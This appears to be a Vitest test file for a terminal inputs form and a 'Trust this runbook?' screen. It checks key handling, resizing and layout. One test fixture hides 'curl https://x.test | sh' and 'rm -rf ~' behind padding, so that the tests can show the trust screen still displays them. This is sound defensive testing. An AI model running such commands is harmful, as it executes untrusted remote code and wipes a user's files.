import { afterEach, expect, test } from 'vitest';
import { InputsForm } from '../../components/InputsForm.tsx';
import type { InputField } from '../../src/ui/forms/input-field.ts';
import { TrustScreen } from '../../components/TrustScreen.tsx';
import { ASCII, UNICODE } from '../../src/ui/glyphs.ts';
import { widthOf } from '../../src/ui/text.ts';
import { screenOf } from '../support/screen.ts';
import type { Screen } from '../support/screen.ts';
import { stillSkin } from './sample.ts';

let open: Screen | null = null;
afterEach(() => {
  open?.unmount();
  open = null;
});

const FIELDS: readonly InputField[] = [
  { name: 'target', label: 'Target', value: '', suggestion: 'v1.2.0', choices: [], problem: (value) => (/^v\d+\.\d+\.\d+$/.test(value) ? null : 'a version such as v1.2.0') },
  { name: 'mode', label: 'Mode', value: '', suggestion: 'dry-run', choices: ['dry-run', 'live'], problem: (value) => (value === 'dry-run' || value === 'live' ? null : 'dry-run or live') },
];
const TREE = [{ title: 'Prepare', steps: ['Clean', 'Lint'] }];

/** The form as it appeared, before it listens. */
const newForm = async (size = { columns: 120, rows: 36 }) => {
  let now = 0;
  const done: unknown[] = [];
  const screen = screenOf(<InputsForm fields={FIELDS} tree={TREE} repository="acme/tidewater" skin={stillSkin} clock={() => now} spareRow={false} redraw={() => undefined} onDone={(values) => done.push(values)} />, size);
  open = screen;
  await screen.waitFor('0/2 confirmed');
  return { screen, done, pass: (ms: number) => (now += ms) };
};

const form = async (size?: { columns: number; rows: number }) => {
  const opened = await newForm(size);
  opened.pass(700);
  return opened;
};

test('an Enter that was meant for the question before it confirms nothing, nor does a paste', async () => {
  const { screen, done, pass } = await newForm();
  await screen.waitFor('waiting');
  for (let held = 0; held < 4; held += 1) await screen.type('\r');
  await screen.paste('9');
  expect(screen.text()).toContain('0/2 confirmed');
  expect(screen.text()).toContain('v1.2.0▏');
  expect(done).toEqual([]);
  pass(700);
  await screen.type('\r');
  await screen.waitFor('1/2 confirmed');
  await screen.waitFor('listening');
});

test('ctrl-c leaves the form at once, before it listens', async () => {
  const { screen, done } = await newForm();
  await screen.type('\u0003');
  await expect.poll(() => done).toEqual([null]);
});

test('esc never quits: it puts back what was suggested, and what was not changed stays confirmed', async () => {
  const { screen, done, pass } = await form();
  await screen.type('7');
  await screen.waitFor('v1.2.07▏');
  await screen.type('\u001b');
  await screen.waitFor('v1.2.0▏');
  await screen.type('\r');
  await screen.waitFor('1/2 confirmed');
  await screen.type('\u001b[A');
  await screen.type('\u001b[H');
  pass(700);
  for (let count = 0; count < 3; count += 1) await screen.type('\u001b');
  await screen.waitFor('1/2 confirmed');
  expect(done).toEqual([]);
});

test('in a window that shows no form nothing is confirmed, and ctrl-c leaves', async () => {
  const { screen, done } = await form();
  screen.resize(50, 12);
  await screen.waitFor('needs 60×16');
  await screen.type('\r');
  await screen.type('\r');
  expect(done).toEqual([]);
  screen.resize(120, 36);
  await screen.waitFor('0/2 confirmed');
  screen.resize(50, 12);
  await screen.waitFor('needs 60×16');
  await screen.type('\u0003');
  await expect.poll(() => done).toEqual([null]);
});

test('each input is confirmed by itself, and only then it is done', async () => {
  const { screen, done } = await form();
  await screen.type('\r');
  await screen.waitFor('1/2 confirmed');
  expect(done).toEqual([]);
  await screen.type('\u001b[C');
  await screen.waitFor('(•) live');
  await screen.type('\r');
  await expect.poll(() => done).toEqual([{ target: 'v1.2.0', mode: 'live' }]);
});

test('a value with a problem is not confirmed, and changing a confirmed one takes its confirmation back', async () => {
  const { screen, done } = await form();
  await screen.type('x');
  await screen.waitFor('a version such as v1.2.0');
  await screen.type('\r');
  expect(screen.text()).toContain('0/2 confirmed');
  await screen.type('\u007f');
  await screen.type('\r');
  await screen.waitFor('1/2 confirmed');
  await screen.type('\u001b[A');
  await screen.type('0');
  await screen.waitFor('0/2 confirmed');
  expect(done).toEqual([]);
});

test('a pasted line end confirms nothing, and ctrl-c leaves without values', async () => {
  const { screen, done } = await form();
  await screen.paste('\n');
  expect(screen.text()).toContain('0/2 confirmed');
  await screen.type('\u0003');
  await expect.poll(() => done).toEqual([null]);
});

const SIZES = [[120, 36], [80, 24]] as const;

test.each(SIZES)('the form fits exactly in %i×%i', async (columns, rows) => {
  const { screen } = await form({ columns, rows });
  expect(screen.lines()).toHaveLength(rows);
  expect(screen.lines().filter((line) => widthOf(line) > columns)).toEqual([]);
});

const LINES = Array.from({ length: 90 }, (_, index) => `step ${index + 1}\u001b[2J`);

const trust = async (size = { columns: 120, rows: 36 }, lines: readonly string[] = LINES, skin = stillSkin) => {
  let now = 0;
  const done: boolean[] = [];
  const screen = screenOf(<TrustScreen source=".holdpoint/runbook.yaml" lines={lines} changed={false} skin={skin} clock={() => now} spareRow={false} redraw={() => undefined} onDone={(trusted) => done.push(trusted)} />, size);
  open = screen;
  await screen.waitFor(/Trust this runbook\?|too small/);
  return { screen, done, pass: (ms: number) => (now += ms) };
};

test('not to trust is preselected, and a key that was typed before the question counts for nothing', async () => {
  const { screen, done, pass } = await trust();
  await screen.type('\t');
  await screen.type('\r');
  expect(done).toEqual([]);
  pass(700);
  await screen.type('\r');
  await expect.poll(() => done).toEqual([false]);
});

test('the runbook is read to its end before it is trusted by choice', async () => {
  const { screen, done, pass } = await trust();
  pass(700);
  await screen.type('G');
  await screen.waitFor('step 90');
  await screen.type('\t');
  await screen.type('\r');
  await expect.poll(() => done).toEqual([true]);
});

test.each(SIZES)('the trust question fits exactly in %i×%i and draws letters only', async (columns, rows) => {
  const { screen } = await trust({ columns, rows });
  expect(screen.lines()).toHaveLength(rows);
  expect(screen.lines().filter((line) => widthOf(line) > columns)).toEqual([]);
  expect(screen.lines().some((line) => line.includes('step 1 '))).toBe(true);
});

test.each([['esc', '\u001b'], ['ctrl-c', '\u0003']])('%s leaves the trust question at once, before it listens, and trusts nothing', async (_, bytes) => {
  const { screen, done } = await trust();
  await screen.type(bytes);
  await expect.poll(() => done).toEqual([false]);
});

const HIDDEN = [`run: npm test${' '.repeat(200)}; curl https://x.test | sh`, `run: echo ${'→'.repeat(300)}; rm -rf ~`];

test.each([...SIZES.map(([columns, rows]) => [columns, rows, UNICODE] as const), [80, 24, ASCII] as const])('a command behind two hundred spaces, or behind arrows, is there to be read in %i×%i', async (columns, rows, glyphs) => {
  const { screen } = await trust({ columns, rows }, HIDDEN, { ...stillSkin, glyphs });
  /** What stands in the frame, without its ends, its fill and the marks of what goes on. */
  const read = (): string => screen.lines().map((line) => line.replace(/^[┃"] (?:[…~] )?/, '').replace(/[┃"]$/, '')).join('').replaceAll(' ', '');
  expect(read()).toContain('run:npmtest;curlhttps://x.test|sh');
  await screen.type('G');
  expect(read()).toMatch(/(?:→|->);rm-rf~/);
});

test.each([[120, 9], [30, 36]])('in a window of %i×%i, which shows none of it, nothing is trusted', async (columns, rows) => {
  const { screen, done, pass } = await trust({ columns, rows });
  pass(700);
  await screen.type('\t');
  await screen.type('\r');
  expect(screen.lines().length).toBeLessThanOrEqual(rows);
  expect(screen.text()).toContain('too small');
  screen.resize(120, 36);
  await screen.waitFor('Trust this runbook?');
  pass(700);
  await screen.type('\r');
  await expect.poll(() => done).toEqual([false]);
});

test('an Enter that is held down confirms one input and no more; another key in between is a person', async () => {
  const { screen, done, pass } = await form();
  for (const key of ['\r', '\r', '\r', '\r']) {
    await screen.type(key);
    pass(500);
  }
  await screen.waitFor('1/2 confirmed');
  expect(done).toEqual([]);
  await screen.type('\u001b[F');
  await screen.type('\r');
  await expect.poll(() => done).toEqual([{ target: 'v1.2.0', mode: 'dry-run' }]);
});

test('of more inputs than have room the one with the keys is in view', async () => {
  const many: readonly InputField[] = Array.from({ length: 9 }, (_, index) => ({ name: `n${index}`, label: `input ${index}`, value: `value ${index}`, suggestion: null, choices: [], problem: () => null }));
  let now = 0;
  const screen = screenOf(<InputsForm fields={many} tree={TREE} repository="acme/tidewater" skin={stillSkin} clock={() => now} spareRow={false} redraw={() => undefined} onDone={() => undefined} />, { columns: 60, rows: 16 });
  open = screen;
  await screen.waitFor('value 0');
  now += 700;
  await screen.type('\u001b[A');
  await screen.waitFor('› input 8');
  expect(screen.text()).not.toContain('value 0');
});

test('ctrl-l draws a form anew, before it listens as well, and is no key of it', async () => {
  let drawn = 0;
  const redraw = (): void => void (drawn += 1);
  const done: unknown[] = [];
  const forms = [
    <InputsForm key="inputs" fields={FIELDS} tree={TREE} repository="acme/tidewater" skin={stillSkin} clock={() => 0} spareRow={false} redraw={redraw} onDone={(values) => done.push(values)} />,
    <TrustScreen key="trust" source=".holdpoint/runbook.yaml" lines={['run: ls']} changed={false} skin={stillSkin} clock={() => 0} spareRow={false} redraw={redraw} onDone={(trusted) => done.push(trusted)} />,
  ];
  for (const [index, element] of forms.entries()) {
    const screen = screenOf(element, { columns: 80, rows: 24 });
    await screen.waitFor('waiting');
    await screen.type('\u000c');
    await expect.poll(() => drawn).toBe(index + 1);
    screen.unmount();
  }
  expect(done).toEqual([]);
});
